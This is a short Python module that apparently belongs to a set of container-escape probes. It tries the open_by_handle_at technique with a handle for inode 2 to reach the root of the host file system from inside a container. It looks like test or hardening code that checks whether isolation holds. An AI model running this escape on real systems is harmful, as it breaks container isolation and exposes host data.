"""The root of the host's file system: inode 2 nearly always."""

import ctypes
import os

from escape import attempt, call


@attempt
def open_by_handle():
    handle = (ctypes.c_uint32 * 34)(8, 1, 2, 0)
    file = os.open("/", os.O_RDONLY)
    call("open_by_handle_at", file, handle, 0)
    return "opened a file by handle"
